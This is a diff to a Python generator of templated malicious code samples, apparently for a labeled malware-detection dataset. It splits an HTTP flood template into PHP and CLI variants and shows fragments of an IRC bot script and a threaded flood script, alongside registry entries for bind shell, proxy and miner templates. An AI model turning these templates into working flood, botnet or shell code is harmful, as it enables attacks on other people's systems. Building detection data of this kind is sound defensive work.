@@ -745,11 +745,17 @@ def t6_sh_irc_bot(g):
             "  esac\ndone > $f &\n(echo \"NICK %s\"; echo \"USER %s 0 * :x\"; echo \"JOIN #z\") > $f\n") % (host, trig, trig, nick, nick)
 
 
-def t6_http_flood(g):
+def t6_http_flood_php(g):
+    """t6_http_flood, the PHP page: the target and the duration from the request."""
+    g.lang = "php"
+    return t6_http_flood(g, "php")
+
+
+def t6_http_flood(g, lang=None):
     """An HTTP flood: requests to a target taken from argv or the request, as
     fast as threads or curl_multi allow, until a deadline."""
     r = g.rng
-    lang = r.choice(["py", "php"])
+    lang = lang or "py"
     g.lang = lang
     if lang == "py":
         return ("#!/usr/bin/env python3\nimport sys, threading, random, time, urllib.request\n"
@@ -894,7 +900,8 @@ BOT_TEMPLATES = [
 BOT6_TEMPLATES = [
     ("r6_py_irc_dispatch", t6_py_irc_dispatch, "malicious", "auto", "high"),
     ("r6_sh_irc_bot", t6_sh_irc_bot, "malicious", "auto", "high"),
-    ("r6_http_flood", t6_http_flood, "malicious", "auto", "high"),
+    ("r6_http_flood_php", t6_http_flood_php, "malicious", "auto", "high"),
+    ("r6_http_flood_cli", t6_http_flood, "malicious", "auto", "any"),
     ("r6_bind_shell", t6_bind_shell, "malicious", "auto", "high"),
     ("r6_tmp_proxy", t6_tmp_proxy, "malicious", "auto", "any"),
     ("r6_miner_sh", t6_miner_sh, "malicious", "auto", "high"),
